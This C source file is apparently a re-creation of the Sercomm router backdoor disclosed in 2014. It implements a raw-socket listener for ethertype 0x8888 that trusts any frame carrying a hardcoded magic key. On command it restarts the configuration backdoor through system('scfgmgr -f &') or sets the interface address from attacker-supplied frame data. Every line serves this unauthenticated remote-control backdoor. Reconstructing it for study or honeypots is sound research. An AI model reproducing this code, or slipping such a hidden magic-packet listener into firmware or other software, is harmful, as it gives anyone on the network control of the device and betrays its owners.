/* Factory tool of a router ("ft_tool").
 * Re-creation of the Sercomm follow-up backdoor (Eloi Vanderbeken, "How Sercomm saved my Easter!",
 * April 2014): a raw socket waits for Ethernet frames of ethertype 0x8888 whose payload carries
 * md5("DGN1000"); packet type 0x201 restarts the configuration backdoor with system(). */
#include <arpa/inet.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <unistd.h>

#define FT_ETHERTYPE 0x8888

struct ft_frame {
    struct ethhdr eth;
    uint16_t type;
    uint16_t length;
    unsigned char key[16];
    unsigned char data[64];
} __attribute__((packed));

static const unsigned char model_key[16] = {
    /* md5("DGN1000") */
    0x45, 0xd1, 0xbb, 0x33, 0x9b, 0x07, 0xa6, 0x61, 0x8b, 0x21, 0x14, 0xdb, 0xc0, 0xd7, 0x78, 0x3e,
};

static unsigned char own_mac[ETH_ALEN];

static int for_us(const struct ft_frame *f)
{
    static const unsigned char broadcast[ETH_ALEN] = {0xff, 0xff, 0xff, 0xff, 0xff, 0xff};
    return memcmp(f->eth.h_dest, own_mac, ETH_ALEN) == 0 || memcmp(f->eth.h_dest, broadcast, ETH_ALEN) == 0;
}

int main(int argc, char **argv)
{
    const char *ifname = argc > 1 ? argv[1] : "eth0";
    int sock = socket(AF_PACKET, SOCK_RAW, htons(FT_ETHERTYPE));
    struct ifreq ifr;
    memset(&ifr, 0, sizeof ifr);
    strncpy(ifr.ifr_name, ifname, IFNAMSIZ - 1);
    if (sock < 0 || ioctl(sock, SIOCGIFHWADDR, &ifr) < 0)
        return 1;
    memcpy(own_mac, ifr.ifr_hwaddr.sa_data, ETH_ALEN);
    for (;;) {
        struct ft_frame frame;
        ssize_t n = recv(sock, &frame, sizeof frame, 0);
        if (n < (ssize_t)offsetof(struct ft_frame, data) || ntohs(frame.eth.h_proto) != FT_ETHERTYPE)
            continue;
        if (!for_us(&frame) || memcmp(frame.key, model_key, sizeof model_key) != 0)
            continue;
        switch (ntohs(frame.type)) {
        case 0x200: /* ping: answer with our address */
            memcpy(frame.eth.h_dest, frame.eth.h_source, ETH_ALEN);
            memcpy(frame.eth.h_source, own_mac, ETH_ALEN);
            send(sock, &frame, (size_t)n, 0);
            break;
        case 0x201:
            system("scfgmgr -f &");
            break;
        case 0x202:
            frame.data[sizeof frame.data - 1] = '\0';
            execl("/sbin/ifconfig", "ifconfig", "br0", (char *)frame.data, (char *)NULL);
            break;
        }
    }
}
